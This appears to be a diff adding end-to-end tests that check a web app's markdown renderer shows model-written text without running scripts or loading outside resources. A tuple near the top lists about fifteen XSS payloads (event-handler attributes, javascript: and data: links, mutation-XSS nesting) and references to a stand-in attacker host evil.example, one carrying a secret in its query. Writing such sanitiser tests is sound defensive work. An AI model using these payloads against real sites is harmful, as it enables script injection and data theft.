@@ -1,0 +1,104 @@
+"""Model text on the page: whatever it holds, it is shown, runs nothing and asks for nothing from elsewhere."""
+
+from typing import Any
+
+import pytest
+
+from tests.daemons import Running
+from tests.e2e.conftest import Visit
+from tests.e2e.person import Person
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
+    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+    "![a cat](https://evil.example/cat.png?secret=1 'title') and ![a dog][1]\n\n[1]: https://evil.example/dog.png",
+    "[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [own](/v1/models) [vb](vbscript:x)",
+    "<a href='jav&#x09;ascript:alert(1)' onclick=alert(1)>x</a> <javascript:alert(1)>",
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    "`<img src=x onerror=alert(1)>` | <details open ontoggle=alert(1)>\n--|--\n1|<img src=x onerror=alert(1)>",
+    "<code><img src=x onerror=alert(1)> & <b>never closed",
+    "a <kbd onclick=alert(1)>key</kbd> <sub style='position:fixed'>x</sub><br onload=alert(1)>",
+)
+INSPECT = """async ({ base, text }) => {
+    const { render } = await import(base + "markdown.js");
+    const place = document.body.appendChild(document.createElement("div"));
+    for (let end = 1; end <= text.length; end += 3) render(place, text.slice(0, end));
+    render(place, text);
+    const all = [...place.querySelectorAll("*")];
+    const found = {
+        tags: all.map((each) => each.localName),
+        attributes: all.flatMap((each) => each.getAttributeNames()),
+        links: all.filter((each) => each.href).map((each) => [each.href.baseVal ?? each.href, each.target, each.rel]),
+        text: place.innerText,
+        html: place.innerHTML,
+        fresh: (render(place, ""), render(place, text), place.innerHTML),
+    };
+    place.remove();
+    return found;
+}"""
+ELEMENTS = set(
+    "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr kbd li ol p pre span strong sub "
+    "sup svg table tbody td th thead tr ul use".split()
+)
+ATTRIBUTES = set(
+    "align aria-hidden aria-label class data-action dir href rel role start tabindex target title type".split()
+)
+
+
+async def show(person: Person, text: str) -> dict[str, Any]:
+    """What the page makes of `text`, streamed in small steps."""
+    return await person.page.evaluate(INSPECT, {"base": await person.base(), "text": text})
+
+
+async def test_hostile_text_is_only_text(daemon: Running, visit: Visit) -> None:
+    person = await (await visit(daemon.url)).ready()
+    person.page.on("dialog", lambda _: pytest.fail("a script ran"))
+    for text in HOSTILE:
+        found = await show(person, text)
+        assert set(found["tags"]) <= ELEMENTS, text
+        assert set(found["attributes"]) <= ATTRIBUTES, text
+        assert found["html"] == found["fresh"], text
+        for address, target, rel in found["links"]:
+            assert address.startswith(("https://", "mailto:", "#icon-")), text
+            assert address.startswith("#") or (target, rel) == ("_blank", "noopener noreferrer")
+
+
+async def test_html_is_shown_as_it_was_written(daemon: Running, visit: Visit) -> None:
+    person = await (await visit(daemon.url)).ready()
+    found = await show(person, 'Write <b class="x">bold</b> so.\n\n<div>\n**strong**\n</div>')
+    assert '<b class="x">bold</b>' in found["text"]
+    assert "<div>" in found["text"] and "strong" in found["tags"]
+
+
+async def test_images_become_their_words(daemon: Running, visit: Visit) -> None:
+    person = await (await visit(daemon.url)).ready()
+    found = await show(person, '![a <b> "cat"](https://evil.example/cat.png)')
+    assert (found["tags"], found["text"]) == (["p"], 'a <b> "cat"')
+
+
+async def test_unchanged_blocks_keep_their_elements(daemon: Running, visit: Visit) -> None:
+    person = await (await visit(daemon.url)).ready()
+    script = """async (base) => {
+        const { render } = await import(base + "markdown.js");
+        const place = document.createElement("div");
+        render(place, "One.\\n\\n```py\\na = 1");
+        const [first, code] = place.children;
+        const letters = code.querySelector("code").firstChild;
+        render(place, "One.\\n\\n```py\\na = 1\\nb = 2\\n```\\n\\nThree.");
+        const [same, grown, third] = place.children;
+        return [same === first, grown === code, grown.querySelector("code").firstChild === letters, letters.data,
+                third.textContent];
+    }"""
+    result = await person.page.evaluate(script, await person.base())
+    assert result == [True, True, True, "a = 1\nb = 2\n", "Three."]
+
+
+async def test_half_a_list_is_never_a_heading(daemon: Running, visit: Visit) -> None:
+    person = await (await visit(daemon.url)).ready()
+    assert (await show(person, "Rice:\n-"))["tags"][0] == "p"
